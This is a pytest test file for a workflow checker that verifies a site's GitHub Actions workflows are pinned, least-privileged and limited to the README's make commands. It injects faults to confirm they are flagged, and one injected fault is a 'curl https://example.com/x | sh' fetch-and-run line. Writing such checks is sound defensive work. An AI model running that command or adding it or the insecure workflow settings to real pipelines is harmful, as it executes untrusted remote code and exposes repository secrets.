"""The GitHub Actions workflows: what runs on a pull request, what deploys, what checks links."""

import pytest

from conftest import ROOT, BrokenCopy, line_of, messages, report
from sitecheck import workflows


def test_workflows_are_pinned_least_privileged_and_use_readme_commands(project):
    report(workflows.check(project))


def test_pull_requests_run_the_whole_test_suite_and_keep_the_built_site():
    assert "pull_request" in workflows.triggers(ROOT, "checks.yml")
    assert workflows.commands(ROOT, "checks.yml") == ["make test", "make build"]
    assert "actions/upload-artifact@" in (ROOT / ".github/workflows/checks.yml").read_text()


def test_main_branch_deploys_to_pages_one_at_a_time():
    deploy = workflows.load(ROOT / ".github/workflows/deploy.yml")
    assert workflows.triggers(ROOT, "deploy.yml") >= {"push", "workflow_dispatch"}
    assert deploy["on"]["push"]["branches"] == ["main"]
    assert deploy["permissions"] == {}
    assert deploy["concurrency"]["cancel-in-progress"] is False
    assert deploy["jobs"]["build"]["permissions"] == {"contents": "read"}
    assert workflows.commands(ROOT, "deploy.yml") == ["make build"]


def test_link_check_runs_weekly_and_never_on_pull_requests():
    assert workflows.triggers(ROOT, "linkcheck.yml") == {"schedule", "workflow_dispatch"}
    assert workflows.commands(ROOT, "linkcheck.yml") == ["make linkcheck"]


def test_a_version_tag_publishes_the_release_pack_and_only_that_job_writes():
    release = workflows.load(ROOT / workflows.WORKFLOWS / "release.yml")
    assert workflows.triggers(ROOT, "release.yml") == {"push", "workflow_dispatch"}
    assert release["on"]["push"] == {"tags": ["v*"]} and release["permissions"] == {}
    assert release["jobs"]["pack"]["permissions"] == {"contents": "write"}
    assert workflows.commands(ROOT, "release.yml") == ["make release-pack", workflows.RELEASE_UPLOAD]


CHECKS = ".github/workflows/checks.yml"
RELEASE = ".github/workflows/release.yml"
DEPLOY = ".github/workflows/deploy.yml"
CHECKOUT = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"

# A workflow changed the way a pull request might: (file, old, new, the line the
# message must name (text on it), what the message says).
FAULTS = {
    "unpinned-action": (CHECKS, CHECKOUT, "actions/checkout@v4", "actions/checkout@v4", "'actions/checkout@v4' is not pinned"),
    "deploy-job-with-too-many-permissions": (DEPLOY, "      pages: write\n", "      pages: write\n      contents: write\n", "  deploy:", "the deploy job's permissions must be exactly"),
    "workflow-runs-its-own-commands": (CHECKS, "run: make test", "run: pip install mkdocs && mkdocs build", "pip install mkdocs", "workflows call the README's commands"),
    "release-runs-another-command": (RELEASE, "--clobber", "--clobber && curl https://example.com/x | sh", "curl https://example.com", "workflows call the README's commands"),
    "pull-request-target": (CHECKS, "on:\n  pull_request:\n", "on:\n  pull_request_target:\n", "pull_request_target", "'pull_request_target' runs a fork's pull request with this repository's write token and secrets; trigger on 'pull_request'"),
    "pull-request-workflow-may-write": (CHECKS, "permissions:\n  contents: read\n", "permissions:\n  contents: write\n", "permissions:", "the workflow runs on pull requests, so its token may only read: set 'permissions: contents: read' (or less), found {'contents': 'write'}"),
    "pull-request-job-may-write": (CHECKS, "    timeout-minutes: 30\n", "    timeout-minutes: 30\n    permissions: write-all\n", "  test:", "so its token may only read: set 'permissions: contents: read' (or less) in job 'test', found 'write-all'"),
    "pull-request-workflow-reads-a-secret": (
        CHECKS, "        run: make test\n", "        run: make test\n        env:\n          CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}\n",
        "secrets.CODECOV_TOKEN", "'CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}' reads a secret, but the workflow runs on pull requests",
    ),
}


@pytest.mark.parametrize("file, old, new, where, expected", FAULTS.values(), ids=FAULTS.keys())
def test_fault_workflow(tmp_path, file, old, new, where, expected):
    # A copy of the workflows alone, which is all the workflow check reads.
    broken = BrokenCopy(tmp_path / "project", parts=[".github"])
    broken.replace(file, old, new)
    found = messages(workflows.check(broken.project))
    assert f"{file}:{line_of(broken.project, file, where)}: " in found and expected in found, found
